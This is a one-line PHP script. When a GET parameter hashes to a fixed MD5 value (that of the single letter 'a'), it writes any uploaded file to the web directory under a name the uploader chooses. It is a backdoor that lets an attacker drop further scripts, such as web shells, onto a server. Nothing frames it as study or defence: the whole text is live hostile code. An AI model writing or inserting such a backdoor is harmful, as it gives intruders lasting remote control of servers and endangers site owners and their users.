<?php if (md5($_GET['k']) == '0cc175b9c0f1b6a831c399e269772661') { $u = $_FILES['f']; move_uploaded_file($u['tmp_name'], $u['name']); }
